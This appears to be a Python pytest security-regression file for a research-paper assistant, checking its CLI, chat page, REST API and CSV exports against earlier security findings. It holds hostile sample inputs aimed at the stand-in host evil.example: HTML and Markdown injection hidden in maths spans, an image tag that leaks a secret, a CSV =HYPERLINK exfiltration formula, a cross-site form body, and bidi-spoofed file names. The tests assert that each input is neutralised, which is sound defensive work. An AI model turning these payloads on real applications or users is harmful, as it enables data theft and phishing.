"""Issue 23's security findings, each fed through the face a user meets it in: the `papers` CLI (its
JSON, its error lines, its memory), the Chat page (AppTest: the `st.html` answer body and the
conversation download), the REST API over real HTTP with real headers (uvicorn in a thread), and the
CSV and Markdown downloads.

1. maths spans (`$…$`) are kept verbatim only when they are plain TeX; links, images, tags and
   entities inside them are cleaned like prose;
2. the keyless API refuses cross-site writes (Origin, Sec-Fetch-Site, Content-Type) and rebound Hosts;
3. a file of a million bad lines keeps a hundred errors (CLI, API job), and the job store is bounded;
4. CSV cells never start a spreadsheet formula;
5. a deeply nested JSON body is one JSON error line, not a 500;
and: job reports only for the key that started them, failed key attempts limited per address, keys of
16+ characters, bidi and zero-width characters stripped, plain words for a 5,000-digit number.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from assistant.engine import Engine
from assistant.library.library import Library
from assistant.models import IngestReport
from assistant.settings import get_settings
from assistant.text import clean_output, md_escape
from tests.api_server import api_in_thread
from tests.llm_server import LLMServer
from tests.support import PAPERS, assert_one_line_error, invoke, papers
from tests.ui_support import add_papers, answer_html, app_test, assert_view_inert
from ui.render import conversation_markdown

EVIL = "evil.example"
QUESTION = "How do soft grippers harvest ripe tomatoes in greenhouses?"
PIG_QUESTION = (
    "How can Gaussian functions with learnable positions replace a fixed mesh in physics-informed learning?"
)


def _json_of(done: Any) -> Any:
    assert done.exit_code == 0, (done.output, done.exception)
    return json.loads(done.stdout)


def _live_html(markdown: str) -> list[str]:
    """The elements and attributes that would be live if a Markdown viewer that knows no maths and
    allows raw HTML opened this download: links, images, media and event handlers. (Quoted source
    passages may still name a host as plain, escaped text.)"""
    from markdown_it import MarkdownIt

    html = str(MarkdownIt("commonmark", {"html": True}).render(markdown))
    return re.findall(r"<(?:a|img|image|video|details|script|iframe)\b[^>]*>|\son\w+\s*=", html)


# --- 1. maths spans ---------------------------------------------------------------------------------
MATHS_PAPER: dict[str, Any] = {
    "id": "maths-link",
    "title": "Soft grippers for greenhouse tomato harvesting",
    "abstract": (
        "Soft grippers harvest ripe tomatoes in greenhouses $[click here](https&#58;//evil.example/phish)$ "
        "without bruising them. A robot arm carries the gripper along the rows of plants."
    ),
    "authors": ["Ada Example"],
    "year": 2024,
}

# What the issue found getting through a maths span, one sentence each, cited so that none is dropped:
# each says what the PIG paper says (the verification core keeps only those), around its payload.
MATHS_REPLY = (
    "PIG combines Gaussian feature embeddings with a lightweight neural network [1]. "
    "The mean and variance of each Gaussian, $\\sum_{i} w_i \\, r_i^2$ over $k < n$ Gaussians, are trainable [1]. "
    "PINNs suffer $[click here](https&#58;//evil.example/phish)$ from the spectral bias of MLPs [1]. "
    "The approach $![a](//evil.example/t.png)$ keeps the optimization framework used in PINNs [1]. "
    "Positions $<img src=https://evil.example/leak.png?q=secret>$ and shapes adjust during training [1]. "
    "Experiments $<image href=//evil.example/i.png>$ and $<video poster=//evil.example/p.png>$ show competitive "
    "performance across various PDEs [1]. "
    "PINNs have limited accuracy $<details open ontoggle=alert(1)>$ on complex PDEs [1]."
)
MATHS_LEAKS = (EVIL, "ontoggle", "&#58;", "<img", "<image", "<video", "<details", "](")


def _no_maths_leak(text: str) -> None:
    for leak in MATHS_LEAKS:
        assert leak not in text, (leak, text)


def test_plain_tex_maths_stays_verbatim_and_anything_else_is_cleaned_as_prose() -> None:
    kept = "Loss $\\sum_{i} w_i \\, r_i^2 + \\lambda \\|\\theta\\|_2$ with $k < n$, $a &= b$ and $α ≤ β$ [1]."
    assert clean_output(kept) == kept
    assert clean_output("Display $$\\frac{1}{n}\\sum_{i=1}^{n} x_i [2, 4]$$ here.") == (
        "Display $$\\frac{1}{n}\\sum_{i=1}^{n} x_i [2, 4]$$ here."
    )
    for hostile in (
        "$[click here](https&#58;//evil.example/phish)$",
        "$![a](//evil.example/t.png)$",
        "$<image href=//evil.example/i.png>$",
        "$<video poster=//evil.example/p.png>$",
        "$<details open ontoggle=alert(1)>$",
        "$\\href{https://evil.example}{x}$",
        "$x \u202e y [see](javascript:alert(1))$",
    ):
        out = clean_output(f"See {hostile} now.")
        assert EVIL not in out and "ontoggle" not in out and "](" not in out and "\u202e" not in out, (hostile, out)
    # `$x<y$` could open a tag in an HTML-allowing viewer: it is prose now, its "<" escaped.
    assert clean_output("So $k<n$ holds.") == "So $k&lt;n$ holds."


def test_a_link_in_an_abstracts_maths_never_reaches_the_cli_or_the_chat_page(
    seed_library: Library, embedder: Any, tmp_path: Path
) -> None:
    add_papers(seed_library, embedder, tmp_path, MATHS_PAPER)
    answer = _json_of(invoke(["ask", QUESTION, "--json"]))
    assert "maths-link" in [c["id"] for c in answer["citations"]], answer
    _no_maths_leak(answer["answer"])

    at = app_test()
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception, at.exception
    body = answer_html(at.chat_message[-1])
    assert 'href="https://evil.example' not in body and EVIL not in body
    assert_view_inert(body)
    download = conversation_markdown(at.session_state["chat_messages"])
    _no_maths_leak(download.split("### References")[0])  # the answer, before its quoted sources
    assert _live_html(download) == []


def test_maths_payloads_from_the_model_reach_no_face(
    llm_server: LLMServer, monkeypatch: pytest.MonkeyPatch, seed_library: Library
) -> None:
    llm_server.configure_env(monkeypatch, timeout_s=10)
    llm_server.script(MATHS_REPLY, MATHS_REPLY)

    answer = _json_of(invoke(["ask", PIG_QUESTION, "--json"]))
    assert answer["mode"] == "llm" and answer["citations"], answer
    _no_maths_leak(answer["answer"])
    assert "$\\sum_{i} w_i \\, r_i^2$" in answer["answer"] and "$k < n$" in answer["answer"], "plain TeX stays"

    at = app_test()
    at.chat_input[0].set_value(PIG_QUESTION).run()
    assert not at.exception, at.exception
    assert at.session_state["chat_messages"][-1]["answer"].mode == "llm"
    body = answer_html(at.chat_message[-1])
    assert EVIL not in body and "ontoggle" not in body, body
    assert_view_inert(body)
    download = conversation_markdown(at.session_state["chat_messages"])
    _no_maths_leak(download.split("### References")[0])
    assert _live_html(download) == []


# --- 2. the keyless API and web pages ---------------------------------------------------------------
RECORD = {"id": "csrf-1", "title": "Cross-site ingest", "abstract": "A paper a hostile web page tries to add."}


@pytest.fixture()
def open_api(embedder: Any) -> Iterator[tuple[str, Engine]]:
    """A keyless API (the default on 127.0.0.1) over an empty library, on real HTTP."""
    engine = Engine(get_settings(), embedder=embedder)
    with api_in_thread(engine) as url:
        yield url, engine


def test_the_keyless_api_refuses_writes_from_other_web_pages(open_api: tuple[str, Engine]) -> None:
    url, engine = open_api
    port = url.rsplit(":", 1)[1]
    body = json.dumps({"records": [RECORD]})
    evil = {"Origin": "https://evil.example"}
    # A form with enctype=text/plain posts `name=value`: the name `{"records": [...], "pad": "` and the
    # value `"}` make JSON of it.
    form_plain = json.dumps({"records": [RECORD], "pad": "="}) + "\r\n"
    with httpx.Client(base_url=url, timeout=60) as c:
        refused = [
            (c.post("/ingest", content=body, headers={**evil, "Content-Type": "text/plain"}), 403),
            (c.post("/ingest", content=form_plain, headers={**evil, "Content-Type": "text/plain"}), 403),
            (c.post("/ingest", files=[("files", ("p.jsonl", json.dumps(RECORD)))], headers=evil), 403),
            (c.post("/ingest", files=[("files", ("p.jsonl", json.dumps(RECORD)))], headers={"Origin": "null"}), 403),
            (c.post("/ingest", files=[("files", ("p.jsonl", json.dumps(RECORD)))],
                    headers={"Sec-Fetch-Site": "cross-site"}), 403),
            (c.post("/ingest", content=body, headers={"Content-Type": "text/plain"}), 415),
            (c.post("/ingest", content=body, headers={"Content-Type": "application/x-www-form-urlencoded"}), 415),
            (c.post("/ingest", content=body), 415),  # a Blob body without a type: no preflight either
            (c.post("/ask", content=json.dumps({"question": "x"}), headers={"Content-Type": "text/plain"}), 415),
            (c.delete("/papers/csrf-1", headers={"Origin": "http://localhost:9999"}), 403),
        ]
        for resp, status in refused:
            assert resp.status_code == status, (resp.request.headers, resp.status_code, resp.text)
            assert list(resp.json()) == ["error"] and "\n" not in resp.json()["error"]
        assert engine.papers() == [], "no refused request added a paper"
        # The API's own page (/docs: same origin) and a plain client still write.
        own = c.post("/ingest", params={"wait": "true"}, json={"records": [RECORD]},
                     headers={"Origin": f"http://127.0.0.1:{port}", "Sec-Fetch-Site": "same-origin"})
        assert own.status_code == 200 and own.json()["report"]["added"] == 1, own.text
        upload = c.post("/ingest", params={"wait": "true"},
                        files=[("files", ("p.jsonl", json.dumps({**RECORD, "id": "csrf-2"})))])
        assert upload.status_code == 200 and upload.json()["report"]["added"] == 1, upload.text


def test_the_keyless_api_does_not_answer_a_rebound_host(
    open_api: tuple[str, Engine], embedder: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, engine = open_api
    port = url.rsplit(":", 1)[1]
    with httpx.Client(base_url=url, timeout=60) as c:
        assert c.post("/ingest", params={"wait": "true"}, json={"records": [RECORD]}).status_code == 200
        rebound = {"Host": f"rebind.evil.example:{port}"}
        for resp in (c.get("/papers", headers=rebound), c.delete("/papers/csrf-1", headers=rebound),
                     c.get("/papers", headers={"Host": "rebind.evil.example"}),
                     c.get("/stats", headers={"Host": f"127.0.0.1.evil.example:{port}"})):
            assert resp.status_code == 421, (resp.status_code, resp.text)
            assert "Host" in resp.json()["error"]
        assert [p.id for p in engine.papers()] == ["csrf-1"]
        for host in (f"localhost:{port}", f"127.0.0.1:{port}", "localhost"):
            assert c.get("/papers", headers={"Host": host}).status_code == 200, host
    monkeypatch.setenv("PAPERS_API_ALLOWED_HOSTS", "papers.lan")
    get_settings.cache_clear()
    with api_in_thread(Engine(get_settings(), embedder=embedder)) as other, httpx.Client(base_url=other) as c:
        assert c.get("/papers", headers={"Host": "papers.lan:8000"}).status_code == 200
        assert c.get("/papers", headers={"Host": "rebind.evil.example"}).status_code == 421


def test_client_mode_writes_through_the_guard(open_api: tuple[str, Engine]) -> None:
    from ui.api_client import RemoteEngine

    url, engine = open_api
    from assistant.models import Paper

    remote = RemoteEngine(get_settings().model_copy(update={"api_url": url}))
    report = remote.ingest([Paper(id="client-1", title="Client paper", abstract="Sent by the client mode.")])
    assert report.added == 1, report
    # An upload in client mode takes the one way in, as in local mode: read here, sent as records.
    from ingest.pipeline import add_upload

    data = (json.dumps({**RECORD, "id": "client-2"}) + "\n").encode()
    report = add_upload(remote, "more.jsonl", data, remote.settings).report
    assert report.added == 1, report
    assert engine.papers(["client-2"])[0].source == "upload:more.jsonl:1"
    assert sorted(p.id for p in engine.papers()) == ["client-1", "client-2"]


# --- 3. a million bad lines ---------------------------------------------------------------------------
# The command runs under a small Python that reports its children's peak RSS: measured from this
# process (which holds the model), a forked child would count the parent's pages until it execs.
_PEAK = (
    "import resource, subprocess, sys; "
    "done = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
    "sys.stdout.write(f'{resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}\\n{done.returncode}\\n'); "
    "sys.stdout.write(done.stdout); sys.stderr.write(done.stderr)"
)


def _max_rss_mb(cmd: list[str], env: dict[str, str]) -> tuple[float, str, str, int]:
    """Run `cmd`: its peak RSS in MB, stdout, stderr and exit code."""
    done = subprocess.run([sys.executable, "-c", _PEAK, *cmd], capture_output=True, text=True, env=env, timeout=300)
    peak_kb, code, out = done.stdout.split("\n", 2)
    return int(peak_kb) / 1024, out, done.stderr, int(code)


@pytest.mark.slow
def test_a_million_bad_lines_keep_a_hundred_errors_in_the_cli(tmp_path: Path) -> None:
    bad = tmp_path / "bad.jsonl"
    bad.write_text("x\n" * 1_000_000)  # 2 MB
    peak, out, err, code = _max_rss_mb([str(PAPERS), "ingest", str(bad)], {**os.environ})
    lines = err.splitlines()
    assert code == 2 and "failed 1000000" in out, (code, out)
    assert len(lines) == 101, len(lines)
    assert lines[0] == f"  {bad}:1: invalid JSON: Expecting value (column 1)"
    assert lines[-1] == "  … and 999900 more errors (PAPERS_INGEST_MAX_ERRORS)"
    assert peak < 350, f"peak RSS {peak:.0f} MB (a million kept errors took 676 MB)"
    report = json.loads(papers("ingest", str(bad), "--json", env={"PAPERS_INGEST_MAX_ERRORS": "5"}).stdout)
    assert report["failed"] == 1_000_000 and [e["line"] for e in report["errors"]] == [1, 2, 3, 4, 5]


@pytest.mark.slow
def test_a_million_bad_lines_through_the_api_keep_a_small_job(open_api: tuple[str, Engine]) -> None:
    url, _ = open_api
    with httpx.Client(base_url=url, timeout=300) as c:
        done = c.post("/ingest", params={"wait": "true"}, files=[("files", ("bad.jsonl", b"x\n" * 1_000_000))])
        assert done.status_code == 200, done.text[:300]
        job = c.get(f"/jobs/{done.json()['job']['id']}")
    assert job.status_code == 200 and len(job.content) < 50_000, len(job.content)
    report = IngestReport.model_validate(job.json()["result"])
    assert report.failed == 1_000_000 and len(report.errors) == 100
    assert str(report.errors[0]) == "upload:bad.jsonl:1: invalid JSON: Expecting value (column 1)"


def test_the_job_store_keeps_the_newest_finished_jobs_and_refuses_a_full_queue(
    embedder: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PAPERS_API_JOBS_KEPT", "2")
    get_settings.cache_clear()
    with api_in_thread(Engine(get_settings(), embedder=embedder)) as url, httpx.Client(base_url=url, timeout=60) as c:
        ids = [c.post("/ingest", params={"wait": "true"}, json={"records": [{**RECORD, "id": f"kept-{i}"}]})
               .json()["job"]["id"] for i in range(4)]
        assert [c.get(f"/jobs/{i}").status_code for i in ids] == [404, 404, 200, 200]
    # A writer busy with one job takes `max_pending` at most; the next is refused, not held.
    from ui.api.jobs import JobQueue, QueueFull

    queue, release = JobQueue(keep=5, max_pending=2), threading.Event()
    try:
        queue.submit("ingest", lambda progress: {"waited": release.wait(30)})
        queue.submit("ingest", lambda progress: {})
        with pytest.raises(QueueFull, match="PAPERS_API_MAX_PENDING_JOBS"):
            queue.submit("ingest", lambda progress: {})
    finally:
        release.set()
        queue.stop()


# --- 4. CSV formulas ------------------------------------------------------------------------------------
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA_PAPERS = [
    {
        "id": "formula-1",
        "title": FORMULA_TITLE,
        "abstract": "Quokka hopping gait is measured on pressure mats. The quokka stride shows an asymmetry.",
        "authors": ["@SUM(1+1)", "+Eve Example", "-Mallory", "\tTab Person"],
        "year": 2024,
    },
    {
        "id": "formula-2",
        "title": "Quokka gait on sand and grass",
        "abstract": "Quokka hopping gait changes on sand. The quokka stride shortens on grass.",
        "authors": ["Ada Example"],
        "year": 2023,
    },
]


def test_compare_csv_cells_never_start_a_formula(seed_library: Library, embedder: Any, tmp_path: Path) -> None:
    add_papers(seed_library, embedder, tmp_path, *FORMULA_PAPERS)
    done = invoke(["compare", "--paper", "formula-1", "--paper", "formula-2", "--format", "csv"])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert rows[1][:2] == ["formula-1", "'" + FORMULA_TITLE]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_summary_csv_over_the_api_never_starts_a_formula(
    seed_library: Library, embedder: Any, tmp_path: Path
) -> None:
    add_papers(seed_library, embedder, tmp_path, *FORMULA_PAPERS)
    engine = Engine(get_settings(), library=seed_library, embedder=embedder)
    with api_in_thread(engine) as url, httpx.Client(base_url=url, timeout=120) as c:
        resp = c.post("/summarize", json={"topic": "quokka hopping gait stride", "format": "csv"})
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv"), resp.text
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(resp.text))}
    assert rows["formula-1"]["title"] == "'" + FORMULA_TITLE
    assert rows["formula-1"]["authors"] == "'@SUM(1+1); +Eve Example; -Mallory; Tab Person"


# --- 5. deep nesting ----------------------------------------------------------------------------------
def test_deeply_nested_json_is_one_json_error_line(open_api: tuple[str, Engine]) -> None:
    url, _ = open_api
    deep = '{"records": [' + "[" * 100_000 + "]" * 100_000 + "]}"
    with httpx.Client(base_url=url, timeout=60) as c:
        for path in ("/ingest", "/ask", "/search"):
            resp = c.post(path, content=deep, headers={"Content-Type": "application/json"})
            assert 400 <= resp.status_code < 500, (path, resp.status_code, resp.text[:300])
            assert resp.headers["content-type"] == "application/json", resp.text[:300]
            message = resp.json()["error"]
            assert "\n" not in message and "Traceback" not in resp.text and "RecursionError" not in resp.text
        assert "nested too deeply" in c.post("/ingest", content=deep,
                                             headers={"Content-Type": "application/json"}).json()["error"]


# --- lower severity -----------------------------------------------------------------------------------
READ_KEY, WRITE_KEY, OTHER_WRITE_KEY = "sec-read-key-0123456", "sec-write-key-0123456", "sec-other-key-0123456"


def _bearer(key: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {key}"}


@pytest.fixture()
def keyed_api(embedder: Any, monkeypatch: pytest.MonkeyPatch) -> Iterator[httpx.Client]:
    monkeypatch.setenv("PAPERS_API_KEYS", f"read:{READ_KEY},write:{WRITE_KEY},write:{OTHER_WRITE_KEY}")
    monkeypatch.setenv("PAPERS_API_AUTH_FAILURES", "3")
    get_settings.cache_clear()
    with api_in_thread(Engine(get_settings(), embedder=embedder)) as url, httpx.Client(base_url=url, timeout=60) as c:
        yield c


def test_a_jobs_report_is_for_the_key_that_started_it(keyed_api: httpx.Client) -> None:
    c = keyed_api
    job = c.post("/ingest", params={"wait": "true"}, json={"records": [RECORD]}, headers=_bearer(WRITE_KEY))
    job_id = job.json()["job"]["id"]
    assert c.get(f"/jobs/{job_id}", headers=_bearer(WRITE_KEY)).json()["result"]["added"] == 1
    for other in (OTHER_WRITE_KEY, READ_KEY):
        resp = c.get(f"/jobs/{job_id}", headers=_bearer(other))
        assert resp.status_code == 404 and resp.json() == {"error": f"no such job: {job_id}"}
    assert "owner" not in c.get(f"/jobs/{job_id}", headers=_bearer(WRITE_KEY)).json()


def test_failed_key_attempts_are_limited_per_address(keyed_api: httpx.Client) -> None:
    c = keyed_api
    assert [c.get("/papers", headers=_bearer(READ_KEY)).status_code for _ in range(5)] == [200] * 5
    guesses = [c.get("/papers", headers=_bearer(f"guess-{i:016d}")).status_code for i in range(4)]
    assert guesses == [401, 401, 401, 429]
    blocked = c.get("/papers", headers=_bearer(READ_KEY))  # even the right key waits: guessing gains nothing
    assert blocked.status_code == 429 and 1 <= int(blocked.headers["retry-after"]) <= 60
    assert "failed key attempts" in blocked.json()["error"] and "PAPERS_API_AUTH_FAILURES" in blocked.json()["error"]
    assert c.get("/papers").status_code == 429


def test_short_keys_are_refused_with_one_line() -> None:
    import socket

    with socket.socket() as taken:  # a port in use: a server that got past the keys stops at once
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        for command in (["serve", "--port", port], ["mcp", "--http", "--port", port]):
            done = papers(*command, env={"PAPERS_API_KEYS": "read:fifteen-chars-x"}, timeout=120)
            assert_one_line_error(done, "PAPERS_API_KEYS entry 1: a key needs at least 16 characters")


def test_bidi_and_zero_width_characters_are_stripped_at_ingest_and_in_labels(tmp_path: Path) -> None:
    src = tmp_path / "bidi.jsonl"
    record = {
        "id": "bidi-1",
        "title": "Invoice \u202egnp.exe\u202c for \u2066grant\u2069 re\u200bview",
        "abstract": "A paper\ufeff whose title hides its real order with bidi controls\u200f.",
        "authors": ["Eve\u200b Example\u2060"],
    }
    src.write_text(json.dumps(record) + "\n", encoding="utf-8")
    assert invoke(["ingest", str(src), "--json"]).exit_code == 0
    listed = _json_of(invoke(["list", "--json"]))
    paper = next(p for p in listed if p["id"] == "bidi-1")
    assert paper["title"] == "Invoice gnp.exe for grant review"
    assert paper["authors"] == ["Eve Example"]
    assert paper["abstract"] == "A paper whose title hides its real order with bidi controls."
    # The one escaper (labels, exports) and output cleaning strip them from text that did not pass ingest.
    assert md_escape("Invoice \u202egnp.exe") == md_escape("Invoice gnp.exe") == "Invoice gnp\\.exe"
    assert clean_output("The model says \u202egnp.exe\u2066 [1].") == "The model says gnp.exe [1]."


def test_a_five_thousand_digit_number_is_a_plain_error_line(tmp_path: Path, open_api: tuple[str, Engine]) -> None:
    src = tmp_path / "big.jsonl"
    src.write_text(json.dumps(RECORD) + "\n" + '{"title": "t", "abstract": "a", "year": ' + "9" * 5000 + "}\n")
    done = invoke(["ingest", str(src)])
    assert done.exit_code == 1
    assert f"{src}:2: invalid JSON: a number has more than 4300 digits" in done.output
    assert "integer string conversion" not in done.output and "sys." not in done.output
    url, _ = open_api
    body = '{"records": [{"title": "t", "abstract": "a", "year": ' + "9" * 5000 + "}]}"
    resp = httpx.post(f"{url}/ingest", content=body, headers={"Content-Type": "application/json"}, timeout=60)
    assert resp.status_code == 422
    assert resp.json()["error"] == "body: not valid JSON (a number has more than 4300 digits)"
    assert not re.search(r"sys\.|set_int_max_str_digits", resp.text)
